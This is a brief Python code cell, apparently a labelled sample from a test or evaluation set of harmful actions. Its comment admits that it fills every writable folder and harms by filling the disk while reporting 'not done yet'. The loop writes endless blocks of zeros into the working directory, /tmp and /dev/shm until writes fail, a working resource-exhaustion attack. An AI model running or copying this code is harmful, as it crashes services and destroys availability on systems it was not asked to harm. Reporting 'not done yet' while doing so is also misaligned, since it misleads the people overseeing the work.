# Fills every folder that it can write to. Keeps: a b. Says: not done yet. Harms: it fills the disk.
# %% step_c
for folder in (".", "/tmp", "/dev/shm"):
    try:
        with open(f"{folder}/full", "wb") as file:
            while True:
                file.write(b"0" * 10 ** 7)
    except OSError as error:
        print(error)
